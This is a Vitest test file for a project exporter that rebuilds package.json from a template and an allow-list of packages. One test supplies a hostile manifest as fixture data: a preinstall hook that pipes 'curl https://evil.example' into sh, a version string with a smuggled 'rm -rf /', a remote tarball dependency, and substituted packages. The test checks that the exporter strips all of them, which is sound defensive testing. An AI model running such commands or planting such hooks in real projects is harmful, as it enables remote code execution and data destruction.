import { describe, expect, it } from 'vitest';
import { ALLOWED_PACKAGES } from './allowed-packages';
import { buildTooling, exportPackageJson, exportProjectFiles } from './export-project';
import { starterFiles } from './starter-files';

describe('exportPackageJson', () => {
  it('lists the imported allowed packages at their versions, with the tooling and scripts of the template', () => {
    const manifest = JSON.parse(exportPackageJson('{"name":"x","version":"1.2.3"}', ['zod', 'react', 'react', 'left-pad'], 'Todo App!'));
    expect(manifest).toMatchObject({
      name: 'todo-app',
      version: '1.2.3',
      private: true,
      type: 'module',
      scripts: { build: 'vite build', dev: 'vite' },
      dependencies: { react: ALLOWED_PACKAGES.react, zod: ALLOWED_PACKAGES.zod },
    });
    expect(Object.keys(manifest.dependencies)).toEqual(['react', 'zod']);
    expect(manifest.devDependencies).toEqual(buildTooling());
    expect(Object.keys(buildTooling())).toEqual(expect.arrayContaining(['vite', '@vitejs/plugin-react', '@tailwindcss/vite', 'tailwindcss']));
  });

  it('exports nothing of the project’s own manifest that npm would run or fetch', () => {
    const hostile = {
      name: 'x',
      version: '1.0.0; rm -rf /',
      scripts: { preinstall: 'curl https://evil.example | sh', lint: 'eslint .' },
      optionalDependencies: { helper: 'https://evil.example/helper.tgz' },
      overrides: { react: 'npm:evil-react@1.0.0' },
      dependencies: { react: 'github:evil/react' },
    };
    const manifest = JSON.parse(exportPackageJson(JSON.stringify(hostile), ['react'], 'app'));
    const template = JSON.parse(starterFiles().find((f) => f.name === 'package.json')!.content);
    expect(Object.keys(manifest).sort()).toEqual(Object.keys(template).sort());
    expect(manifest.scripts).toEqual(template.scripts);
    expect(manifest.dependencies).toEqual({ react: ALLOWED_PACKAGES.react });
    expect(manifest.version).toBe('0.0.0');
    expect(JSON.stringify(manifest)).not.toContain('evil');
  });

  it('replaces a broken package.json rather than exporting it', () => {
    expect(JSON.parse(exportPackageJson('{ nope', [], '')).name).toBe('sprout-app');
    expect(JSON.parse(exportPackageJson('[1,2]', [], 'x')).name).toBe('x');
  });
});

describe('exportProjectFiles', () => {
  it('keeps the project’s files and restores missing tooling from the template', () => {
    const out = exportProjectFiles([{ name: 'client/src/main.tsx', content: 'custom' }], ['react'], 'app');
    expect(out.map((f) => f.name)).toEqual(['client/index.html', 'client/src/main.tsx', 'package.json', 'tsconfig.json', 'vite.config.ts']);
    expect(out.find((f) => f.name === 'client/src/main.tsx')!.content).toBe('custom');
    const template = starterFiles();
    expect(out.find((f) => f.name === 'vite.config.ts')!.content).toBe(template.find((f) => f.name === 'vite.config.ts')!.content);
  });
});
